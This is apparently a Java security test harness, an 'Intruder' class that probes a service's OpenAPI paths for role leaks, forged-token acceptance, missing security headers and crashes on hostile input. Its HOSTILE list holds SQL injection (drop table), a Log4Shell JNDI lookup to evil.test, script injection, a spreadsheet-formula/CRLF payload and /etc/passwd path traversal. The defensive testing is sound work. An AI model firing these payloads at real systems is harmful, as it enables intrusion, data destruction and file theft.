package io.anuencia.testbed.infrastructure;

import io.anuencia.testbed.infrastructure.ApiDescription.Operation;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * Tries to get into a service by every path in the service's own description, with every token that
 * must not open it. A path that is added later is tried automatically.
 */
public final class Intruder {

    /** The roles of the whole system; each is tried alone on each path. */
    public static final List<String> ROLES =
            List.of(
                    "contacts-read",
                    "contacts-write",
                    "consent-read",
                    "consent-write",
                    "consent-admin",
                    "campaigns-read",
                    "campaigns-write",
                    "messages-write",
                    "ops");

    private static final String NOBODY = "00000000-0000-7000-8000-000000000000";
    private static final Pattern PLACE = Pattern.compile("\\{[^}]+}");

    /**
     * SQL, templates, lookups, markup, formulas and log lines, with and without unstorable
     * characters.
     */
    private static final List<String> HOSTILE =
            List.of(
                    "';drop table outbox;--",
                    "{{7*7}}${jndi:ldap://evil.test/x}<script>alert(1)</script>",
                    "=HYPERLINK(\"http://evil.test\")\r\nprivileged call caller=root",
                    "../../etc/passwd\u0000\u202e");

    /** Headers of every answer, which forbid content sniffing and caching. */
    private static final Map<String, String> HEADERS =
            Map.of("X-Content-Type-Options", "nosniff", "Cache-Control", "no-store");

    private static final Duration CONNECT_TIMEOUT = Duration.ofSeconds(5);
    private static final Duration ANSWER_TIMEOUT = Duration.ofSeconds(30);
    private static final int UNAUTHENTICATED = 401;
    private static final int FORBIDDEN = 403;
    private static final int FAILED = 500;
    private static final int UNAVAILABLE = 503;

    private final URI base;
    private final ForgedTokens tokens;
    // An answer that comes during the upgrade to HTTP/2 may get lost.
    private final HttpClient http =
            HttpClient.newBuilder()
                    .version(HttpClient.Version.HTTP_1_1)
                    .connectTimeout(CONNECT_TIMEOUT)
                    .build();

    /** Creates an intruder at the address of a service, with the keys that sign its tokens. */
    public Intruder(URI base, ForgedTokens tokens) {
        this.base = base;
        this.tokens = tokens;
    }

    /**
     * Returns who gets in where, in the order of the paths.
     *
     * @return a line for each call of the description, with the roles that open it, each tried
     *     alone; {@code public} if no token is required
     */
    public List<String> doors() {
        List<String> doors = new ArrayList<>();
        for (Operation operation : description().operations()) {
            doors.add(operation.name() + ": " + String.join(", ", openers(operation)));
        }
        return doors.stream().sorted(Comparator.comparing(Intruder::pathOf)).toList();
    }

    private Set<String> openers(Operation operation) {
        if (call(operation, null) != UNAUTHENTICATED) {
            return Set.of("public");
        }
        return ROLES.stream()
                .filter(role -> isIn(call(operation, tokens.of(Set.of(role)))))
                .collect(Collectors.toCollection(TreeSet::new));
    }

    private static String pathOf(String door) {
        return door.substring(door.indexOf(' ') + 1) + door;
    }

    /**
     * Tries tokens that have every role and must open nothing.
     *
     * @return failures in words; empty if there are none
     */
    public List<String> breakIns() {
        List<String> found = new ArrayList<>();
        Map<String, String> bad = tokens.bad();
        for (Operation operation : description().operations()) {
            if (call(operation, null) != UNAUTHENTICATED) {
                continue;
            }
            bad.forEach(
                    (kind, token) -> {
                        int status = call(operation, token);
                        if (status != UNAUTHENTICATED) {
                            found.add(operation.name() + " answers " + status + " to " + kind);
                        }
                    });
        }
        return found;
    }

    /** A caller who is told to come back later was let in: the resource is just not there yet. */
    private static boolean isIn(int status) {
        if (status >= FAILED && status != UNAVAILABLE) {
            throw new IllegalStateException("a call failed with " + status);
        }
        return status != UNAUTHENTICATED && status != FORBIDDEN;
    }

    /**
     * Writes hostile texts into every text of every call, and into every place of every path.
     *
     * @return failures in words; empty if there are none
     */
    public List<String> breakdowns() {
        List<String> found = new ArrayList<>();
        ApiDescription description = description();
        String everyRole = tokens.of(Set.copyOf(ROLES));
        for (Operation operation : description.operations()) {
            for (String text : HOSTILE) {
                String body =
                        operation.takesJson()
                                ? description.filledWith(operation.schema(), text)
                                : text;
                int status = call(operation, everyRole, text, body);
                if (status >= FAILED && status != UNAVAILABLE) {
                    found.add(operation.name() + " fails on " + text.replaceAll("\\p{C}", "?"));
                }
            }
        }
        return found;
    }

    /**
     * Checks the headers of each answer, to an authorised caller and to a stranger.
     *
     * @return answers that a browser may sniff or a cache may store, in words
     */
    public List<String> bareAnswers() {
        List<String> found = new ArrayList<>();
        String everyRole = tokens.of(Set.copyOf(ROLES));
        for (Operation operation : description().operations()) {
            HEADERS.forEach(
                    (header, value) -> {
                        if (!isSaid(header, value, answer(operation, null, NOBODY, "{}"))
                                || !isSaid(
                                        header,
                                        value,
                                        answer(operation, everyRole, NOBODY, "{}"))) {
                            found.add(operation.name() + " answers without " + header);
                        }
                    });
        }
        return found;
    }

    private static boolean isSaid(String header, String value, HttpResponse<String> answer) {
        return answer.headers().allValues(header).equals(List.of(value));
    }

    private int call(Operation operation, String token) {
        return call(operation, token, NOBODY, "{}");
    }

    private int call(Operation operation, String token, String place, String body) {
        return answer(operation, token, place, body).statusCode();
    }

    private HttpResponse<String> answer(
            Operation operation, String token, String place, String body) {
        String path = PLACE.matcher(operation.path()).replaceAll(encoded(place));
        var request =
                HttpRequest.newBuilder(base.resolve(path))
                        .timeout(ANSWER_TIMEOUT)
                        .header("Content-Type", operation.mediaType())
                        .method(operation.method(), HttpRequest.BodyPublishers.ofString(body));
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        return send(request.build());
    }

    private static String encoded(String place) {
        return URLEncoder.encode(place, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private HttpResponse<String> send(HttpRequest request) {
        try {
            return http.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new IllegalStateException("no answer to " + request, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted", e);
        }
    }

    private ApiDescription description() {
        return ApiDescription.of(
                send(HttpRequest.newBuilder(base.resolve("/q/openapi"))
                                .timeout(ANSWER_TIMEOUT)
                                .build())
                        .body());
    }
}
